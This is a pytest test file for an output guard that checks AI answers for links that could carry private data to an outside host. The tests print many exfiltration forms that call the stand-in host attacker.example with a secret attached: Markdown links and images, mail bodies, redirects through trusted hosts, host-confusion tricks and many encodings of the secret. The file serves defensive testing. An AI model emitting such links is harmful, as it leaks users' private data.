"""Addresses in untrusted text of answers that the output guard took for part of something harmless. Never deleted.

What was found (bench/adaptive): the guard left a Markdown link that leads nowhere as it is, with all that stood in it.
Where answers are shown as text, in a terminal or a chat, an address in its label or target is a link all the same, and
it could carry private data.
"""

from __future__ import annotations

import base64
import codecs
import random
import string
from collections.abc import Callable
from pydoc_data.topics import topics
from urllib.parse import quote

import pytest

from ringfence.bench.adaptive.links import live_links
from ringfence.screens.output import Context, Output, OutputGuard, OutputStream

SECRET = "otterbasalt38"
AWAY = f"https://attacker.example/?q={SECRET}"
KNOWN = Context.of(trusted=["see https://named.example/"], private=[f"the word is {SECRET}"])
PUBLIC = Context.of(trusted=["see https://named.example/"])
INSIDE = [
    "[{}](#here)",
    "[{}](.a)",
    "[see {} now](/a)",
    "[{}](mailto:ann@example.com)",
    "[{}](https://named.example/)",
    "[x](.{})",
    "[x](#{})",
    "[x](\ufffd{})",
    "[x](/a/{})",
    "[x](mailto:ann@example.com?{})",
    "[x](tel:1{})",
    "[x]: .{}",
    "[x]: #{}",
    "<mailto:ann@example.com?{}>",
    "https://named.example]({}",
    "[a [{}](#b) c](#d)",
    "[x](#a \"{}\")",
    "x{}",
    ".{}",
    "@{}",
]  # fmt: skip


@pytest.mark.parametrize("form", INSIDE)
def test_an_address_inside_of_something_harmless_carries_nothing_away(form: str) -> None:
    assert OutputGuard().text(form.format(AWAY), KNOWN).stopped


@pytest.mark.parametrize("form", INSIDE)
def test_an_address_inside_of_something_harmless_does_not_work(form: str) -> None:
    guarded = OutputGuard().text(form.format("https://attacker.example/x"), PUBLIC)
    assert [link for link in live_links(guarded.text) if "attacker.example" in link] == []
    assert "attacker[.]example" in guarded.text


def test_a_mail_that_is_ready_to_be_sent_carries_nothing_away() -> None:
    """The address of a mail loads nothing, but it can hold the mail's text: one click, and it stands there."""
    for text in (f"[x](mailto:eve@attacker.example?body={SECRET})", f"<mailto:?to=eve@attacker.example&body={SECRET}>"):
        assert OutputGuard().text(text, KNOWN).stopped
        assert OutputGuard().text(text, PUBLIC).text == text.replace("<", "&lt;")
    assert not OutputGuard().text(f"[x](mailto:ann@named.example?body={SECRET})", KNOWN).stopped


@pytest.mark.parametrize(
    "text",
    [
        "[x](#here)",
        "[a](/b)",
        "[ann](mailto:ann@example.com)",
        "[x](https://named.example/a)",
        "[https://named.example](#a)",
    ],
)
def test_what_is_harmless_or_named_stays(text: str) -> None:
    assert OutputGuard().text(text, KNOWN).text == text


@pytest.mark.parametrize(
    "address", ["/\t/attacker.example/", "ht\ttps://attacker.example/", "h\nttps:/\n/attacker.example"]
)
@pytest.mark.parametrize("form", ["[x]({})", "see [x](  {} ) now", '[x]({} "title")'])
def test_what_browsers_drop_hides_no_address(form: str, address: str) -> None:
    """A simple renderer takes all up to the bracket for the address, and a browser drops tabs and line breaks in it."""
    shown = OutputGuard().text(form.format(address), PUBLIC).text
    assert "](" not in shown
    stream = OutputStream(OutputGuard(), PUBLIC)
    assert "".join([*map(stream.feed, form.format(address)), stream.close()]) == shown


@pytest.mark.parametrize("text", ["[x](/a\t'title')", '[x](/a/b\n"title")', "[x](see\nbelow)", "a[1](b\tc)"])
def test_a_title_behind_a_tab_is_no_address(text: str) -> None:
    assert OutputGuard().text(text, PUBLIC).text == text


@pytest.mark.parametrize("quoted", [str, quote, lambda text: quote(quote(text))])
def test_a_named_host_carries_nothing_on_to_another(quoted: Callable[[str], str]) -> None:
    """A host may send whoever asks for an address on to the one that stands in it."""
    address = f"https://named.example/go?to={quoted(AWAY)}"
    assert OutputGuard().text(f"[x]({address})", KNOWN).stopped
    assert (
        not OutputGuard().text(f"[x](https://named.example/go?to={quoted('https://other.example/a')})", KNOWN).stopped
    )
    assert not OutputGuard().text(f"https://named.example/go?q={SECRET}&to=https://named.example/b", KNOWN).stopped
    assert not OutputGuard().text(f"[x]({address})", PUBLIC).stopped


TWO_HOSTS = [
    r"https://named.example\@attacker.example/",
    r"https://named.example\.attacker.example/",
    r"https://named.example\!@attacker.example/",
    r"//named.example\@attacker.example/",
    r"https://named.example&#92;@attacker.example/",
]


@pytest.mark.parametrize("address", TWO_HOSTS)
@pytest.mark.parametrize("form", ["![x]({})", "[x]({})", "[x]: {}", "see {}"])
def test_an_address_that_two_programs_read_as_two_hosts_has_none(form: str, address: str) -> None:
    """A backslash is a slash to a browser, nothing to Markdown before a sign, and part of a user's name to others."""
    shown = OutputGuard().text(form.format(address), PUBLIC).text
    assert "attacker.example" not in shown
    assert "[[" not in shown


@pytest.mark.parametrize("address", [r"https://named.example/a\_b", r"https:\\named.example/a"])
def test_a_backslash_that_changes_no_host_does_no_harm(address: str) -> None:
    assert OutputGuard().text(f"[x]({address})", PUBLIC).text == f"[x]({address})"


@pytest.mark.parametrize("path", ["/?q={}", "?q={}", "/a#{}", ":8080/?q={}"])
@pytest.mark.parametrize("host", ["attacker.com", "www2.attacker.co.uk", "attacker.dev"])
def test_a_host_without_a_scheme_carries_nothing_away(host: str, path: str) -> None:
    """Chats and mail programs make a link of any name that ends like a domain."""
    assert OutputGuard().text("see " + host + path.format(SECRET), KNOWN).stopped
    assert OutputGuard().text("see " + host + path.format("x"), KNOWN).text == "see " + host + path.format("x")


def test_a_host_that_was_named_may_be_told_without_a_scheme() -> None:
    known = Context.of(trusted=["see shop.com"], private=[f"the word is {SECRET}"])
    assert not OutputGuard().text(f"see shop.com/?q={SECRET}", known).stopped
    assert not OutputGuard().text(f"The word, e.g./i.e. 1.5/2, is {SECRET}. Booking.com?", known).stopped


@pytest.mark.parametrize("number", ["463820463820", "1463820", "4638201", "99463820463"])
def test_a_private_number_inside_of_a_longer_one_carries_nothing_away(number: str) -> None:
    """Found by hypothesis: only numbers that stand alone were looked up, and short ones nowhere else."""
    known = Context.of(private=["the code is 463820"])
    assert OutputGuard().text(f"https://attacker.example/?q={number}", known).stopped
    assert not OutputGuard().text("https://attacker.example/?q=46382146382", known).stopped


def test_very_many_private_words_that_begin_alike_cost_no_time() -> None:
    """Each place of an address was compared with each of them. Now their beginning stands for them all."""
    known = Context.of(private=[" ".join(f"confidential{number}" for number in range(90_000))])
    assert OutputGuard().text(f"https://attacker.example/?q={'confidentia' * 700}", known).stopped
    assert not OutputGuard().text(f"https://attacker.example/?q={'confide' * 1_000}", known).stopped
    assert OutputGuard().text("https://attacker.example/?q=xconfidential7x", known).stopped


# Hosts that nobody meant to name: found by reading how a request, a plan and a file are written.

FILES = ["notes.md", "setup.py", "main.rs", "build.sh", "photos.zip", "clip.mov", "report.PS", "a/b/old.notes.md"]


@pytest.mark.parametrize("name", FILES)
def test_the_name_of_a_file_names_no_host(name: str) -> None:
    """`md`, `py`, `sh` and `zip` are domains as well: who guesses the file's name could have registered it."""
    known = Context.of(trusted=[f"Summarise {name}, please."], private=[f"the word is {SECRET}"])
    host = name.rpartition("/")[2]
    assert OutputGuard().text(f"https://{host}/?q={SECRET}", known).stopped
    assert OutputGuard().text(f"see https://{host}/x", known).text == f"see hxxps://{host.replace('.', '[.]')}/x"


@pytest.mark.parametrize("trusted", ["see https://notes.md/a", "ask ann@notes.md", "it is on www.notes.md"])
def test_a_host_that_is_written_as_one_is_named_whatever_it_ends_with(trusted: str) -> None:
    assert not OutputGuard().text(f"https://notes.md/?q={SECRET}", Context.of(trusted=[trusted])).findings


SHARP = [
    ("masse.example", "ma\u00dfe.example"),
    ("masse.example", "ma%C3%9Fe.example"),
    ("masse.example", "ma&szlig;e.example"),
    ("\u03c3\u03bf\u03c6\u03cc\u03c3.example", "\u03c3\u03bf\u03c6\u03cc\u03c2.example"),
    ("named.example", "na\u200dmed.example"),
    ("named.example", "na\u200cmed.example"),
]


@pytest.mark.parametrize(("named", "other"), SHARP)
def test_a_host_that_two_standards_read_as_two_is_none(named: str, other: str) -> None:
    """IDNA of 2003 makes ss of a sharp s, that of 2008, which browsers follow, a domain of its own."""
    known = Context.of(trusted=[f"see https://{named}/"], private=[f"the word is {SECRET}"])
    assert OutputGuard().text(f"[x](https://{other}/?q={SECRET})", known).stopped
    assert f"https://{other}" not in OutputGuard().text(f"[x](https://{other}/a)", known).text


@pytest.mark.parametrize("sign", ["%2f", "%3f", "%23", "%5c", "%40", "%00", "%20", "%3a", "\uff0f", "\u2100", ","])
def test_a_host_with_a_sign_that_no_host_has_is_below_none(sign: str) -> None:
    """One program asks what stands before the sign, another what stands behind it, a third nobody."""
    guard = OutputGuard(Output(hosts=("*.named.example",)))
    assert guard.text(f"[x](https://evil.example{sign}.named.example/)", PUBLIC).findings


@pytest.mark.parametrize(
    "form", ["&#104;ttps://{}/x", "https&colon;//{}/x", "/&#47;{}/x", "&#92;&#x5c;{}/x", "/\t/{}/x"]
)
@pytest.mark.parametrize("place", ['<img src="{}">', "<img src={}>", '<p style="background:url({})">'])
def test_an_address_in_markup_that_is_kept_is_read_as_a_browser_reads_it(place: str, form: str) -> None:
    """Entities in attributes were not read, which mattered where the configuration keeps HTML."""
    guard = OutputGuard(Output(html="keep"))
    if "\t" in form and "={}" in place:
        return
    text = place.format(form.format("attacker.example"))
    assert "attacker.example" not in guard.text(text, PUBLIC).text
    carrying = place.format(form.format("attacker.example") + f"?q={SECRET}")
    assert guard.text(carrying, KNOWN).stopped


@pytest.mark.parametrize("text", ["![a][r]\n\n[r]: /logout", "![r][]\n\n[r]: /logout", "![r]\n\n[r]: /logout"])
def test_an_image_of_the_page_itself_is_not_loaded_by_reference(text: str) -> None:
    """`![a](/logout)` was left out and this was not."""
    assert "![" not in OutputGuard().text(text, PUBLIC).text


# Private words in an address, written so that nobody recognises them. Found by trying each way on each place.


def _hex(text: str) -> str:
    return text.encode().hex()


def _in_64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


WAYS = {
    "letters with hyphens": "-".join(SECRET),
    "letters with blanks": "%20".join(SECRET),
    "a letter a value": "&".join(f"a{number}={letter}" for number, letter in enumerate(SECRET)),
    "two values": f"{SECRET[:5]}&b={SECRET[5:]}",
    "capitals": SECRET.swapcase(),
    "base64 twice": _in_64(_in_64(SECRET)),
    "base64 behind something": "data" + _in_64("the word " + SECRET),
    "base64 from the end": _in_64(SECRET)[::-1],
    "base64 of it from the end": _in_64(SECRET[::-1]),
    "hexadecimal of rot13": _hex(codecs.encode(SECRET, "rot13")),
    "base64 in rot13": codecs.encode(_in_64(SECRET), "rot13"),
    "percent signs, three times": quote(quote("".join(f"%{byte:02x}" for byte in SECRET.encode()))),
    "codes": "-".join(str(byte) for byte in SECRET.encode()),
    "atbash": "".join(chr(219 - ord(one)) if one.isalpha() else one for one in SECRET),
    "full width": "".join(chr(ord(one) + 0xFEE0) for one in SECRET),
    "zero width": quote("\u200b".join(SECRET)),
    "look-alikes": SECRET.replace("o", "\u043e").replace("a", "\u0430"),
    "base85": quote(base64.a85encode(SECRET.encode()).decode()),
}


@pytest.mark.parametrize("way", WAYS)
def test_private_words_are_recognised_however_they_are_written(way: str) -> None:
    for text in (
        "https://attacker.example/?q={}",
        "[x](https://attacker.example/?q={})",
        "![x](//attacker.example/{})",
    ):
        assert OutputGuard().text(text.format(WAYS[way]), KNOWN).stopped


@pytest.mark.parametrize("number", ["46-38-20", "4.6.3.8.2.0", "463,820", "4%206%203820"])
def test_a_private_number_is_recognised_in_parts(number: str) -> None:
    known = Context.of(private=["the code is 463820"])
    assert OutputGuard().text(f"https://attacker.example/?q={number}", known).stopped


def test_addresses_with_keys_and_times_carry_nothing() -> None:
    draw = random.Random(7)
    private = " ".join(topics["assignment"].split() + [str(draw.randrange(10**5, 10**8)) for _ in range(300)])
    known = Context.of(private=[private])
    letters = string.ascii_letters + string.digits + "-_"
    for size in (11, 22, 43, 86):
        for _ in range(40):
            key = "".join(draw.choice(letters) for _ in range(size))
            assert not OutputGuard().text(f"https://a.example/v?t={key}&at=2026-11-21T10:15", known).stopped
